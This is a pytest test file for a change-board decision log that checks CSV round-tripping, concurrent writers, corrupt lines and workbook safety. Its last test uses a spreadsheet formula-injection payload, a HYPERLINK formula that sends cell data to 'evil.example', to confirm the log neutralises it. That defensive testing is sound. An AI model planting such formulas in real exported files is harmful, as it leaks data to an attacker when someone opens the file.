"""Change board decisions: append-only audit trail, concurrent writers, reload, validation."""

from __future__ import annotations

import multiprocessing as mp
import threading

import pandas as pd
import pytest
from portfolio_fixtures import make_portfolio, project

from pmkit.portfolio.decisions import (
    LOG_FILE,
    DecisionError,
    apply_decisions,
    load_decisions,
    record_decision,
    significant_changes,
)


def _pf(folder):
    cr = lambda i, **kw: {  # noqa: E731
        "cr_id": f"C{i}", "project_id": "P1", "scope_impact": "minor", "cost_impact": 1000.0,
        "schedule_impact_days": 1.0, "significance": "minor", "decision": "pending", **kw,
    }  # fmt: skip
    return make_portfolio(
        source=folder,
        standards={"change_control": {"significance": {"cost_abs": 60_000, "cost_ratio": 0.5,
                                                       "schedule_days": 10, "scope": ["major"]}}},
        projects=[project("P1", budget=100_000.0)],
        change_requests=[cr(1), cr(2, significance="significant"), cr(3, scope_impact="major"),
                         cr(4) | {"cost_impact": -70_000.0}],
    )  # fmt: skip


def test_record_reload_and_latest_wins(tmp_path) -> None:
    pf = _pf(tmp_path)
    record_decision(tmp_path, "C2", "defer", "Board", "needs costing", at="2025-03-01T10:00:00Z")
    record_decision(tmp_path, "C2", "approve", "Board", "costed", at="2025-03-08T10:00:00Z")
    record_decision(tmp_path, "C3", "reject", "Ana <CFO>", 'no "budget", sorry\nnext year')
    log = load_decisions(tmp_path / LOG_FILE)
    assert log["seq"].tolist() == [1, 2, 3]
    assert log["decision"].tolist() == ["deferred", "approved", "rejected"]
    assert log.loc[2, "rationale"] == 'no "budget", sorry\nnext year'  # CSV quoting round-trips
    ch = apply_decisions(pf).set_index("cr_id")
    assert ch.loc["C2", "decision"] == "approved" and ch.loc["C2", "decisions_logged"] == 2
    assert ch.loc["C2", "decided_on"] == pd.Timestamp("2025-03-08")
    assert ch.loc["C1", "decision"] == "pending" and ch.loc["C1", "decision_source"] == "file"
    # the portfolio's own table is never rewritten
    assert (pf.changes["decision"] == "pending").all()


def test_significance_by_flag_or_threshold(tmp_path) -> None:
    sig = significant_changes(_pf(tmp_path)).set_index("cr_id")
    assert set(sig.index) == {"C2", "C3", "C4"}
    assert "flagged significant" in sig.loc["C2", "why_significant"]
    assert "scope impact major" in sig.loc["C3", "why_significant"]
    assert "|cost|" in sig.loc["C4", "why_significant"]
    assert sig.index[0] == "C4"  # largest absolute cost first
    assert sig.loc["C4", "cost_impact_ratio"] == pytest.approx(-0.7)


def test_bad_decisions_are_refused(tmp_path) -> None:
    with pytest.raises(DecisionError, match="unknown decision"):
        record_decision(tmp_path, "C1", "maybe", "Board", "x")
    with pytest.raises(DecisionError, match="why"):
        record_decision(tmp_path, "C1", "approve", "Board", "  ")
    with pytest.raises(DecisionError, match="unknown change request"):
        record_decision(tmp_path, "C9", "approve", "Board", "x", known_ids=["C1"])
    assert not (tmp_path / LOG_FILE).exists()


def test_corrupt_log_names_file_line_and_field(tmp_path) -> None:
    record_decision(tmp_path, "C1", "approve", "Board", "ok")
    with open(tmp_path / LOG_FILE, "a", encoding="utf-8") as fh:
        fh.write("x,C1,approved,Board,not-a-date,ok\n")
    with pytest.raises(DecisionError) as err:
        load_decisions(tmp_path)
    assert (err.value.file, err.value.line, err.value.field) == (LOG_FILE, 3, "decided_at")


def test_torn_last_line_is_not_a_decision(tmp_path) -> None:
    record_decision(tmp_path, "C1", "approve", "Board", "ok")
    with open(tmp_path / LOG_FILE, "a", encoding="utf-8") as fh:
        fh.write("abc,C2,rejec")  # a crash mid-write
    assert load_decisions(tmp_path)["cr_id"].tolist() == ["C1"]


def _writer(folder: str, who: int, n: int) -> None:
    for i in range(n):
        record_decision(folder, f"C{i % 4 + 1}", "approve", f"session-{who}", f"reason {i}")


def test_concurrent_processes_lose_nothing(tmp_path) -> None:
    n, procs = 40, 4
    ctx = mp.get_context("fork")
    ps = [ctx.Process(target=_writer, args=(str(tmp_path), w, n)) for w in range(procs)]
    for p in ps:
        p.start()
    for p in ps:
        p.join(30)
        assert p.exitcode == 0
    log = load_decisions(tmp_path)
    assert len(log) == n * procs
    assert log["decision_id"].is_unique
    counts = log["decided_by"].value_counts()
    assert counts.to_dict() == {f"session-{w}": n for w in range(procs)}
    # each writer's own lines keep their order
    for _, rows in log.groupby("decided_by"):
        assert rows["rationale"].tolist() == [f"reason {i}" for i in range(n)]


def test_concurrent_threads_lose_nothing(tmp_path) -> None:
    ts = [threading.Thread(target=_writer, args=(str(tmp_path), w, 25)) for w in range(4)]
    for t in ts:
        t.start()
    for t in ts:
        t.join()
    log = load_decisions(tmp_path)
    assert len(log) == 100 and log["decision_id"].is_unique
    assert (tmp_path / LOG_FILE).read_text().count("decision_id,cr_id") == 1  # one header


def test_a_portfolio_from_a_workbook_keeps_its_log_beside_it(tmp_path) -> None:
    """The log of a portfolio loaded from an ``.xlsx`` was the workbook itself: the roll-up
    read the zip as a CSV log (UnicodeDecodeError) and recording a decision appended CSV text
    to the workbook, which then no longer opened (the user's data lost)."""
    from pathlib import Path

    from pmkit.io.csv_folder import load_portfolio
    from pmkit.io.excel import load_workbook, write_workbook
    from pmkit.portfolio.rollup import rollup

    data = Path(__file__).resolve().parents[2] / "data"
    book = write_workbook(load_portfolio(data), tmp_path / "portfolio.xlsx")
    before = book.read_bytes()
    pf = load_workbook(book)
    assert len(rollup(pf)) == len(pf.projects)  # no decisions log yet: nothing to apply
    cr = pf.changes.loc[pf.changes["decision"] == "pending", "cr_id"].iloc[0]
    record_decision(pf, cr, "approve", "Board", "within budget")
    assert book.read_bytes() == before  # the workbook is never written
    assert load_decisions(tmp_path / LOG_FILE)["cr_id"].tolist() == [cr]
    again = load_workbook(book)
    assert apply_decisions(again).set_index("cr_id").loc[cr, "decision"] == "approved"
    assert rollup(again)["project_id"].tolist() == pf.projects["project_id"].tolist()


def test_a_rationale_a_spreadsheet_would_run_is_guarded_in_the_log(tmp_path) -> None:
    """The board types the rationale on a dashboard; the log is a CSV an auditor opens in
    Excel, where ``=HYPERLINK(...)`` ran (OWASP's CSV injection). It is written with a guard
    apostrophe and read back exactly as typed."""
    import csv

    _pf(tmp_path)
    why = '=HYPERLINK("http://evil.example/?"&A1,"costed")'
    record_decision(tmp_path, "C2", "approve", "@board", why)
    with open(tmp_path / LOG_FILE, encoding="utf-8", newline="") as fh:
        head, row = list(csv.reader(fh))
    cells = dict(zip(head, row, strict=True))
    assert cells["rationale"] == "'" + why and cells["decided_by"] == "'@board"
    log = load_decisions(tmp_path / LOG_FILE)
    assert log.loc[0, "rationale"] == why and log.loc[0, "decided_by"] == "@board"
